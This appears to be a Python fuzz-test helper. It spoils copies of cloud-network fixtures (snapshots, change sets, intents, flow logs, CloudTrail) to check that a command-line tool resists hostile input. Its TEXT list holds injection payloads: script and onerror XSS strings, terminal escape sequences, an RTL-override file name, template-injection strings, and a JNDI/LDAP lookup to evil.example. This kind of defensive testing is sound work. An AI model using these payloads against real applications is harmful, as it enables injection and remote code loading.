"""Hostile copies of the bundled fixtures, for the command-line fuzz test.

A `Scene` is one fixture: its snapshot and the change sets, plans, intents, flow logs and CloudTrail files that
go with it. `workspaces()` draws a scene and spoils copies of its files: names, tags and descriptions turned
into markup, escape sequences and `<script>` tags; values out of range or of the wrong type; bytes flipped or
cut; hostile file names; gzip. `Workspace.write(root)` puts them on disk for one example.
"""

from __future__ import annotations

import contextlib
import functools
import gzip
import json
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import yaml
from hypothesis import strategies as st

from tests.change.test_damaged_inputs import VALUES, damaged, places
from tests.conftest import FIXTURES
from tests.fuzz.mutations import MUTATIONS, Draw, flip, truncate

# Marks text that came from input: it must never run in a page, whatever escaping it went through.
MARKER = "reach_pwned"
TEXT = [
    "[/x]",
    "[bold red blink]loud",
    "\x1b[2J",
    "\x1b]0;pwned\x07",
    "\x1b]8;;https://evil.example/\x1b\\link\x1b]8;;\x1b\\",
    "\x9b31m",
    "\r",
    "\n",
    "\t",
    "\x00",
    "\x7f",
    "\u202egnp.exe",
    "\u2028",
    "\ufeff",
    "\udcff",  # a lone surrogate: valid as a JSON escape, encodable by nothing
    f"<script>{MARKER}()</script>",
    f'"><script>{MARKER}()</script>',
    f"</script><script>{MARKER}()</script>",
    f"</text></svg><img src=x onerror={MARKER}()>",
    f"<svg onload={MARKER}()>",
    "&lt;&#0;&",
    "%%{init: {'theme': 'dark'}}%%",
    '"]; x --> y["',
    ":smile:",
    "{{ 7*7 }}{% raw %}",
    "${jndi:ldap://evil.example/a}",
    "é中𝕏",
    "a" * 3000,
    "",
]
hostile_text = st.one_of(
    st.sampled_from(TEXT),
    st.lists(st.sampled_from(TEXT), min_size=2, max_size=3).map("".join),
    st.text(st.sampled_from("[]/\\<>\"'&%{}:;\x1b\x07\r\n\t\x00\x9b\u202e xé"), max_size=12),
)
# A file or folder name can hold anything but "/" and NUL.
hostile_name = hostile_text.map(lambda t: t.replace("/", "∕").replace("\x00", "")[:200] or "empty")

# Keys whose string values are names the account chose (or a service wrote), printed by every command.
NAME_KEYS = {"GroupName", "Description", "Value", "Key", "LogGroupName", "DeliverLogsErrorMessage",
             "LogDestination", "LogFormat", "TransitGatewayRouteTableId", "VpcEndpointType", "ServiceName"}


@dataclass(frozen=True)
class Scene:
    name: str
    snapshot: Path
    before: Path | None
    changes: tuple[Path, ...]
    intents: tuple[Path, ...]
    flow_logs: tuple[Path, ...]
    cloudtrail: tuple[Path, ...]


# The reconcile fixtures tell their story on another fixture's snapshot.
_RECONCILE_OF = {
    "lambda-rds-nacl": ("reconcile-lambda-rds-nacl", "reconcile-mixed-formats"),
    "lambda-rds-sg": ("reconcile-lambda-rds-sg",),
    "web-http-revoked": ("reconcile-web-http-revoked",),
    "icmp-nacl-reply": ("reconcile-icmp-nacl-reply",),
}


def _files(folder: Path, *patterns: str) -> tuple[Path, ...]:
    return tuple(sorted(f for pattern in patterns for f in folder.glob(pattern) if f.is_file()))


def _scene(folder: Path) -> Scene:
    related = [folder, *(FIXTURES / r for r in _RECONCILE_OF.get(folder.name, ()))]
    return Scene(
        name=folder.name,
        snapshot=folder / "snapshot",
        before=folder / "snapshot-before" if (folder / "snapshot-before").is_dir() else None,
        changes=_files(folder, "change.json", "fix.json", "plan*.json"),
        intents=_files(folder, "intents*.yaml"),
        flow_logs=tuple(f for r in related for f in _files(r, "flow-logs/**/*", "flowlogs/**/*")),
        cloudtrail=tuple(f for r in related for f in _files(r, "cloudtrail/**/*")),
    )


SCENES = [_scene(f.parent) for f in sorted(FIXTURES.glob("*/snapshot"))]
# Drawn from more often: the scenes with a story for every command (change sets, flow logs, intents).
_WEIGHTED = SCENES + [s for s in SCENES if s.changes] * 2 + [s for s in SCENES if s.flow_logs]
ALL_CHANGES = sorted({f for s in SCENES for f in s.changes})
ALL_INTENTS = sorted({f for s in SCENES for f in s.intents})
ALL_FLOW_LOGS = sorted({f for s in SCENES for f in s.flow_logs})


@functools.cache
def _documents(folder: Path) -> tuple[tuple[str, Any], ...]:
    return tuple((str(f.relative_to(folder)), json.loads(f.read_text())) for f in sorted(folder.rglob("*.json")))


def _leaves(node: Any, path: tuple[Any, ...] = ()) -> list[tuple[tuple[Any, ...], Any]]:
    """Every (path, value) of a scalar in a JSON document."""
    if isinstance(node, dict):
        return [leaf for key, value in node.items() for leaf in _leaves(value, (*path, key))]
    if isinstance(node, list):
        return [leaf for index, value in enumerate(node) for leaf in _leaves(value, (*path, index))]
    return [(path, node)]


def _spoil_names(draw: Draw, document: Any) -> Any:
    names = [path for path, value in _leaves(document) if isinstance(value, str) and path and path[-1] in NAME_KEYS]
    if not names:
        return document
    for path in draw(st.lists(st.sampled_from(names), min_size=1, max_size=4, unique=True)):
        original = functools.reduce(lambda node, step: node[step], path, document)
        value = draw(hostile_text) + draw(st.sampled_from(["", original]))
        document = damaged(document, path, value, delete=False)
    return document


def _damage(draw: Draw, document: Any) -> Any:
    """One value of a JSON document replaced by any JSON value, or deleted."""
    path = draw(st.sampled_from(places(document)))
    delete = bool(path) and draw(st.booleans())
    return damaged(document, path, None if delete else draw(VALUES), delete)


def _json_bytes(document: Any) -> bytes:
    return json.dumps(document).encode()


def _endpoints(documents: list[tuple[str, Any]]) -> list[str]:
    """What a user would name on the command line: interfaces' and instances' addresses, ids and Name tags."""
    found: set[str] = set()

    def walk(node: Any, inside: tuple[str, ...]) -> None:
        if isinstance(node, dict):
            if node.get("Key") == "Name" and isinstance(node.get("Value"), str) and \
                    ("TagSet" in inside or "Instances" in inside):
                found.add(node["Value"])
            for key, value in node.items():
                if key in ("PrivateIpAddress", "PublicIp", "Ipv6Address", "NetworkInterfaceId", "InstanceId") \
                        and isinstance(value, str):
                    found.add(value)
                walk(value, (*inside, key))
        elif isinstance(node, list):
            for value in node:
                walk(value, inside)

    for _, document in documents:
        walk(document, ())
    return sorted(found)


def _ports(intents: tuple[Path, ...]) -> list[str]:
    """The ports the scene's own intents ask about: where the answers are interesting."""
    ports = {"22", "80", "443"}
    for file in intents:
        for intent in yaml.safe_load(file.read_text()) or []:
            if isinstance(intent, dict) and "port" in intent:
                ports.add(str(intent["port"]))
    return sorted(ports)


class Workspace:
    """The files of one example, relative to its root, and what the commands may name. (Not a dataclass:
    Hypothesis would print every field of a failing example, megabytes of JSON.)"""

    def __init__(self, scene: Scene) -> None:
        self.scene = scene
        self.files: dict[str, bytes] = {}
        self.snapshot = "snapshot"
        self.before: str | None = None
        self.changes: str | None = None
        self.intents: str | None = None
        self.flow_logs: list[str] = []
        self.cloudtrail: str | None = None
        self.endpoints: list[str] = []
        self.ports = _ports(scene.intents)

    def __repr__(self) -> str:  # what Hypothesis prints for a failure: the story, not megabytes of JSON
        return f"Workspace({self.scene.name}: {', '.join(f'{k} ({len(v)} B)' for k, v in self.files.items())})"

    def write(self, root: Path) -> None:
        for relative, data in self.files.items():
            path = root / relative
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(data)
        (root / "empty").mkdir(exist_ok=True)


def _snapshot(draw: Draw, folder: Path, into: str, ws: Workspace) -> None:
    documents = [(name, document) for name, document in _documents(folder)]
    if draw(st.integers(0, 9)) < 8:
        documents = [(name, _spoil_names(draw, document)) for name, document in documents]
    if documents and draw(st.integers(0, 9)) < 2:
        k = draw(st.integers(0, len(documents) - 1))
        documents[k] = (documents[k][0], _damage(draw, documents[k][1]))
    if draw(st.integers(0, 9)) < 3:  # a key reach does not model, named by the account
        documents.append(("unknown.json", {draw(hostile_text): [{"Id": draw(hostile_text)}]}))
    ws.endpoints += _endpoints(documents)
    files = {f"{into}/{name}": _json_bytes(document) for name, document in documents}
    names = sorted(files)
    if names and draw(st.integers(0, 9)) < 2:  # a file name the account (or a colleague) chose
        old = draw(st.sampled_from(names))
        files[f"{into}/{draw(hostile_name)}.json"] = files.pop(old)
    elif names and draw(st.integers(0, 9)) < 1:
        old = draw(st.sampled_from(names))
        files[old + ".gz"] = gzip.compress(files.pop(old), 1)
    elif names and draw(st.integers(0, 9)) < 1:  # damaged bytes: not JSON, not UTF-8, cut short
        old = draw(st.sampled_from(names))
        files[old] = draw(st.sampled_from([flip, truncate]))(draw, files[old])
    ws.files.update(files)


def _change_set(draw: Draw, scene: Scene, ws: Workspace) -> None:
    source = draw(st.sampled_from(scene.changes or ALL_CHANGES))
    document = json.loads(source.read_text())
    how = draw(st.sampled_from(["as-is", "as-is", "names", "damage", "bytes"]))
    if how == "names":
        document = _spoil_names(draw, document)
    elif how == "damage":
        document = _damage(draw, document)
    data = _json_bytes(document)
    if how == "bytes":
        data = draw(st.sampled_from(MUTATIONS[:4]))(draw, data)
    ws.changes = "changes/" + source.name
    ws.files[ws.changes] = data


def _intents(draw: Draw, scene: Scene, ws: Workspace) -> None:
    source = draw(st.sampled_from(scene.intents or ALL_INTENTS))
    data = source.read_bytes()
    how = draw(st.sampled_from(["as-is", "as-is", "names", "damage", "bytes"]))
    if how in ("names", "damage"):
        document = yaml.safe_load(data)
        if how == "names" and isinstance(document, list):
            for intent in document:
                if isinstance(intent, dict):
                    intent["name"] = draw(hostile_text)
        elif how == "damage":
            document = _damage(draw, document)
        unicode = draw(st.booleans())
        with contextlib.suppress(yaml.YAMLError, UnicodeEncodeError):  # else the file stays as it was
            data = yaml.safe_dump(document, allow_unicode=unicode).encode("utf-8", "surrogateescape")
    elif how == "bytes":
        data = draw(st.sampled_from(MUTATIONS[:4]))(draw, data)
    ws.intents = "intents/" + source.name
    ws.files[ws.intents] = data


def _flow_logs(draw: Draw, scene: Scene, ws: Workspace) -> None:
    sources = draw(st.lists(st.sampled_from(scene.flow_logs or ALL_FLOW_LOGS), min_size=1, max_size=2, unique=True))
    for k, source in enumerate(sources):
        data, name = source.read_bytes(), source.name
        if not name.endswith(".parquet"):
            if name.endswith(".gz"):
                data, name = gzip.decompress(data), name[: -len(".gz")]
            lines = data.splitlines(keepends=True)
            data = b"".join(lines[:40])  # enough of a story, small enough for hundreds of examples
            for mutate in draw(st.lists(st.sampled_from(MUTATIONS), max_size=3)):
                data = mutate(draw, data)
            if draw(st.booleans()):
                data, name = gzip.compress(data, 1), name + ".gz"
        if draw(st.integers(0, 9)) < 1:
            name = draw(hostile_name) + ".log"
        relative = f"flowlogs/{k}/{name}"
        ws.files[relative] = data
        ws.flow_logs.append(relative)


@st.composite
def workspaces(draw: Draw) -> Workspace:
    scene = draw(st.sampled_from(_WEIGHTED))
    ws = Workspace(scene=scene)
    _snapshot(draw, scene.snapshot, "snapshot", ws)
    if scene.before is not None:
        _snapshot(draw, scene.before, "before", ws)
        ws.before = "before"
    _change_set(draw, scene, ws)
    _intents(draw, scene, ws)
    _flow_logs(draw, scene, ws)
    if scene.cloudtrail:
        _cloudtrail(draw, scene, ws)
    return ws


# Who made a change, and from where: printed beside the disagreement it explains.
_TRAIL_KEYS = ("arn", "userName", "principalId", "sourceIPAddress", "userAgent", "eventName", "eventID")


def _cloudtrail(draw: Draw, scene: Scene, ws: Workspace) -> None:
    source = draw(st.sampled_from(scene.cloudtrail))
    data = source.read_bytes()
    how = draw(st.sampled_from(["as-is", "names", "names", "bytes"]))
    if how == "names":
        document = json.loads(gzip.decompress(data) if source.name.endswith(".gz") else data)
        strings = [path for path, value in _leaves(document) if isinstance(value, str) and path[-1] in _TRAIL_KEYS]
        for path in draw(st.lists(st.sampled_from(strings), min_size=1, max_size=4, unique=True)) if strings else []:
            document = damaged(document, path, draw(hostile_text), delete=False)
        data = _json_bytes(document)
        data = gzip.compress(data, 1) if source.name.endswith(".gz") else data
    elif how == "bytes":
        data = draw(st.sampled_from([flip, truncate]))(draw, data)
    ws.cloudtrail = "cloudtrail/" + source.name
    ws.files[ws.cloudtrail] = data

